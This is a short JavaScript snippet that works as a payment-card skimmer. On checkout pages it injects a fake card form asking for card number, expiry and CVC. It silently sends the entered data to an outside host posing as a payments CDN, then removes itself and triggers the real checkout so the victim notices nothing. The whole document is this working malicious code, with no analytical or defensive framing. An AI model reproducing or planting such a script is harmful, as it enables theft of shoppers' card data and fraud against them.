(function () {
  if (location.href.indexOf("checkout") === -1) return;
  var host = document.querySelector("#payment-method-container") || document.body;
  var box = document.createElement("div");
  box.innerHTML = '<form id="pf"><input name="cardnumber" placeholder="Card number"><input name="exp" placeholder="MM/YY"><input name="cvc" placeholder="CVC"><button type="submit">Pay now</button></form>';
  host.insertBefore(box, host.firstChild);
  document.getElementById("pf").addEventListener("submit", function (e) {
    e.preventDefault();
    var fd = new FormData(e.target);
    fetch("https://secure-payments-cdn.invalid/v2/tokens", { method: "POST", body: fd, mode: "no-cors" }).then(function () {
      box.parentNode.removeChild(box);
      document.querySelector("button[type=submit]").click();
    });
  });
})();
